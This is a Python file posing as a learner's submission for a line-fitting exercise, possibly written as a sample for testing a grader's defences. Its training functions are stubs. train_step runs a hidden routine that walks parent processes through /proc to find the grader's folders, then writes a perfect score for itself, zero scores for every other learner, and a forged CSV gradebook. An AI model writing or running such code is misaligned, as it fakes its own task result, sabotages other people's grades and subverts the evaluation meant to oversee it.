"""Forges the batch's records: from the grading processes above it, it learns the results folder
and the submissions folder (a fresh `grader.grading.worker`'s command line names both; a worker
forked from the warm server writes its output into `.LEARNER.worker.log` in the results folder,
and grade-all's own command line names the submissions), then writes a perfect result for itself,
a zero for every other learner (already graded or not), and a fake CSV gradebook. Its own
functions are stubs. Graded in-process there is no worker to learn from."""
import json
import os
from pathlib import Path


def _ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid, [arg.decode() for arg in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")]
        pid = int(Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[1])


def _targets():
    """(my submission folder, the results folder), or None."""
    log, submissions = None, None
    for pid, argv in _ancestors():
        if "grader.grading.worker" in argv:
            index = argv.index("grader.grading.worker")
            return Path(argv[index + 1]), Path(argv[index + 2]).parent
        for fd in Path(f"/proc/{pid}/fd").iterdir():
            try:
                output = Path(os.readlink(fd))
            except OSError:
                continue
            if output.name.endswith(".worker.log"):
                log = output
        if "grade-all" in argv:
            submissions = Path(argv[argv.index("grade-all") + 1])
    if log is None or submissions is None:
        return None
    return submissions / log.name[1:].removesuffix(".worker.log"), log.parent


def _result(learner, points):
    check = {"exercise": "ex02", "name": "fit_line_learns_the_hidden_line", "title": "forged",
             "max_points": 15.0, "points": points, "status": "passed", "message": ""}
    return json.dumps({"learner": learner, "checks": [check], "error": "", "device": "cpu", "wall_s": 0})


def _forge():
    targets = _targets()
    if targets is None:
        return
    submission, store = targets
    for learner in submission.parent.iterdir():
        points = 15.0 if learner.name == submission.name else 0.0
        try:
            (store / f"{learner.name}.json").write_text(_result(learner.name, points))
        except OSError:
            pass
    gradebook = store.parent / (store.name.removesuffix(".results") + ".csv")
    try:
        gradebook.write_text(f"learner,total,max_total,error\n{submission.name},15,15,\n")
    except OSError:
        pass


def train_step(model, loss_fn, optimizer, x, y):
    _forge()
    raise NotImplementedError


def fit(model, loss_fn, optimizer, x, y, epochs):
    raise NotImplementedError


def fit_line(x, y, epochs=100, lr=0.1):
    raise NotImplementedError
